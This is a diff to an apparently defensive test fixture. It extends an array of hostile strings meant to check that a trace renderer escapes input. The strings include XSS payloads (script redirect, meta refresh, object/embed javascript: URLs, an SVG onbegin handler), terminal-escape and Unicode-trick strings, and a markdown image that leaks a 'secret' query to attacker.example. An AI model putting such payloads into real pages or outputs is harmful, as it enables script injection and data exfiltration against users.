@@ -200,6 +200,10 @@ export const HOSTILE = [
   "![leak](https://attacker.example/leak?q=secret) https://attacker.example/",
   `${ESC}]8;;javascript:window.__pwned=1${ESC}\\link${ESC}]8;;${ESC}\\`,
   "\u202eesrever\u202c \u2066isolate\u2069 zero\u200bwidth",
+  '<script>top.self.location.href="/?pwned=1"</script>',
+  '<meta http-equiv="refresh" content="0;url=/?pwned=2">',
+  '<object data="javascript:window.__pwned=1"></object><embed src="https://attacker.example/embedded">',
+  '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"></animate></svg>',
 ];
 
 /** A run that holds hostile strings in every field that a trace fills. */
